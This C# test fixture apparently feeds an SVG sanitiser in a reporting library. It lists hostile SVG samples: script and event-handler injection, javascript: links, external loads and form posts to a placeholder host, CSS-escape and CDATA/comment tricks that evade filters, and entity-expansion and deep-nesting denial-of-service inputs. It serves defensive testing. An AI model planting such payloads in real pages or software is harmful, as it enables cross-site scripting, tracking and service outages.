using System.Collections.Generic;
using System.Linq;

namespace NetGen.Reporting.Tests;

/// <summary>SVG that does more than draw, by what it does when it stands in a page.</summary>
internal static class HostileSvg
{
    private const string Elsewhere = "http://elsewhere.example/";
    private const string Act = "document.documentElement.dataset.acted='yes'";

    /// <summary>Runs a script, loads something, or sends a form: the policy of a page stops it too.</summary>
    public static IReadOnlyDictionary<string, string> Acting { get; } = new Dictionary<string, string>
    {
        ["a script"] = Svg($"<script>{Act}</script>"),
        ["a script in capitals"] = Svg($"<SCRIPT>{Act}</SCRIPT>"),
        ["a script of another file"] = Svg($"<script href='{Elsewhere}a.js'/>"),
        ["a handler"] = $"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{Act}\"/>",
        ["a handler in capitals"] = $"<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/png;base64,AAAA' ONERROR=\"{Act}\"/></svg>",
        ["a handler of a shape"] = Svg($"<rect width='9' height='9' onclick=\"{Act}\"/>"),
        ["HTML in a foreign object"] = Svg($"<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' onerror=\"{Act}\"/></foreignObject>"),
        ["a foreign object in capitals"] = Svg($"<FOREIGNOBJECT><img src='x' onerror=\"{Act}\"/></FOREIGNOBJECT>"),
        ["an image from elsewhere"] = Svg($"<image width='9' height='9' href='{Elsewhere}a.png'/>"),
        ["an image by xlink"] = $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image width='9' height='9' xlink:href='{Elsewhere}a.png'/></svg>",
        ["an image by another prefix"] = $"<svg xmlns='http://www.w3.org/2000/svg' xmlns:q='http://www.w3.org/1999/xlink'><image width='9' height='9' q:href='{Elsewhere}a.png'/></svg>",
        ["an image in capitals"] = Svg($"<image width='9' height='9' HREF='{Elsewhere}a.png'/>"),
        ["an image of HTML"] = Svg($"<img SRC='{Elsewhere}a.png'/>"),
        ["a picture of SVG in an address"] = Svg($"<image width='9' height='9' href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='{Act.Replace('\'', '`')}'/&gt;\"/>"),
        ["a part of another file"] = Svg($"<use href='{Elsewhere}a.svg#a'/>"),
        ["a part in an address"] = Svg("<use href='data:image/svg+xml;base64,PHN2Zy8+#a'/>"),
        ["an image of a filter"] = Svg($"<filter id='f'><feImage href='{Elsewhere}a.png'/></filter><rect width='9' height='9' filter='url(#f)'/>"),
        ["a frame"] = Svg($"<iframe srcdoc='&lt;script&gt;parent.{Act.Replace("'", "&quot;")}&lt;/script&gt;'/>"),
        ["an object"] = Svg($"<object data='{Elsewhere}a.html'/><embed src='{Elsewhere}b.html'/>"),
        ["a style sheet"] = Svg($"<link rel='stylesheet' href='{Elsewhere}a.css'/>"),
        ["a form in a title"] = Svg($"<title><form xmlns='http://www.w3.org/1999/xhtml' action='{Elsewhere}post' method='post'><input name='a'/></form></title>"),
        ["a form"] = Svg($"<p/><form action='{Elsewhere}post' method='post'><input name='a'/></form>"),
        ["a base address"] = Svg($"<p/><base href='{Elsewhere}'/>"),
        ["an imported style"] = Svg($"<style>@import url({Elsewhere}a.css);</style>"),
        ["a colour from elsewhere"] = Svg($"<rect width='9' height='9' fill='url({Elsewhere}a.svg#p)'/>"),
        ["a colour from elsewhere in capitals"] = Svg($"<rect width='9' height='9' fill='URL({Elsewhere}a.svg#p)'/>"),
        ["a style from elsewhere"] = Svg($"<rect width='9' height='9' style='fill:url({Elsewhere}a.svg#p)'/>"),
        ["an escaped style"] = Svg($"<rect width='9' height='9' style='mask:\\75rl({Elsewhere}a.svg#p)'/>"),
        ["an image set"] = Svg($"<rect width='9' height='9' style='mask:image-set(\"{Elsewhere}a.png\" 1x)'/>"),
        ["a mask of an image set"] = Svg($"<rect width='9' height='9' mask='-webkit-image-set(url({Elsewhere}a.png) 1x)'/>"),
        ["a style behind a comment"] = Svg($"<rect width='9' height='9' style='fill:red;/**/mask:url({Elsewhere}a.svg#p)'/>"),
        ["a style in a string"] = Svg($"<rect width='9' height='9' style=\"font-family:'a;mask:url({Elsewhere}a.svg#p)'\"/>"),
        ["a background"] = Svg($"<g style='background:url({Elsewhere}a.png)'/>"),
        ["CDATA in a style"] = Svg($"<style><![CDATA[</style><img src=x onerror=\"{Act}\">]]></style>"),
        ["CDATA in a text"] = Svg($"<desc><![CDATA[<img src=x onerror=\"{Act}\">]]></desc>"),
        ["a comment"] = Svg($"<!--><img src=x onerror=\"{Act}\">-->"),
        ["a comment before the picture"] = $"<!--><img src=x onerror=\"{Act}\">-->" + Svg(""),
        ["a processing instruction"] = Svg($"<?x ><img src=x onerror=\"{Act}\">?>"),
        ["a value that is animated"] = Svg($"<image width='9' height='9'><set attributeName='href' to='{Elsewhere}a.png'/></image>"),
        ["HTML by its namespace"] = Svg($"<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror=\"{Act}\"/>"),
        ["formulas"] = Svg($"<math xmlns='http://www.w3.org/1998/Math/MathML'><mtext><img src='x' onerror=\"{Act}\"/></mtext></math>"),
    };

    /// <summary>Leads away from the page, which no policy forbids, at once or by a click.</summary>
    public static IReadOnlyDictionary<string, string> Leading { get; } = new Dictionary<string, string>
    {
        ["a refresh"] = Svg($"<meta http-equiv='refresh' content='0;url={Elsewhere}'/>"),
        ["a link"] = Svg($"<a href='{Elsewhere}'><rect width='9' height='9'/></a>"),
        ["a link to a page in an address"] = Svg("<a href='data:text/html,x'><rect width='9' height='9'/></a>"),
        ["a link that is set"] = Svg($"<a><set attributeName='href' to='javascript:{Act.Replace("'", "&quot;")}'/><rect width='9' height='9'/></a>"),
        ["a link that is animated"] = Svg($"<a><rect width='9' height='9'/><animate attributeName='href' values='javascript:{Act.Replace("'", "&quot;")}'/></a>"),
        ["a link by a namespace"] = Svg($"<h:a xmlns:h='http://www.w3.org/1999/xhtml' href='{Elsewhere}'>x</h:a>"),
    };

    /// <summary>Changes the page around it.</summary>
    public static IReadOnlyDictionary<string, string> Restyling { get; } = new Dictionary<string, string>
    {
        ["a style for the page"] = Svg("<style>main{display:none}</style>"),
        ["a class of the page"] = Svg("<g class='facts'/>"),
        ["a place over the page"] = "<svg xmlns='http://www.w3.org/2000/svg' style='position:fixed;inset:0'/>",
        ["a picture that flows over"] = "<svg xmlns='http://www.w3.org/2000/svg' overflow='visible'><rect x='-999' y='-999' width='9999' height='9999'/></svg>",
        ["another base of references"] = $"<svg xmlns='http://www.w3.org/2000/svg' xml:base='{Elsewhere}'><use href='#a'/></svg>",
    };

    /// <summary>Comes to more than its text.</summary>
    public static IReadOnlyDictionary<string, string> Growing { get; } = new Dictionary<string, string>
    {
        ["100,000 nested groups"] = Svg(string.Concat(Enumerable.Repeat("<g>", 100_000)) + string.Concat(Enumerable.Repeat("</g>", 100_000))),
        ["100,000 nested groups that do not end"] = Svg(string.Concat(Enumerable.Repeat("<g>", 100_000))),
        ["entities"] = "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]>" + Svg("<text>&c;</text>"),
        ["a DTD from elsewhere"] = $"<!DOCTYPE svg SYSTEM '{Elsewhere}a.dtd'>" + Svg(""),
        ["uses of uses"] = Svg(string.Concat(Enumerable.Range(0, 8).Select(
            i => $"<g id='a{i}'>{string.Concat(Enumerable.Repeat(i == 0 ? "<rect/>" : $"<use href='#a{i - 1}'/>", 10))}</g>"))),
        ["patterns of patterns"] = Svg(string.Concat(Enumerable.Range(0, 8).Select(
            i => $"<pattern id='a{i}'>{string.Concat(Enumerable.Repeat(i == 0 ? "<rect/>" : $"<rect style='fill:url(#a{i - 1})'/>", 10))}</pattern>"))),
        ["a circle of uses"] = Svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
        ["a use of itself"] = Svg("<g id='a'><use href='#a'/></g>"),
        ["a long chain of uses"] = Svg(string.Concat(Enumerable.Range(1, 5000).Select(i => $"<g id='a{i}'><use href='#a{i - 1}'/></g>"))),
    };

    /// <summary>All of them.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = Acting.Concat(Leading).Concat(Restyling).Concat(Growing).ToDictionary();

    private static string Svg(string content) => $"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'>{content}</svg>";
}
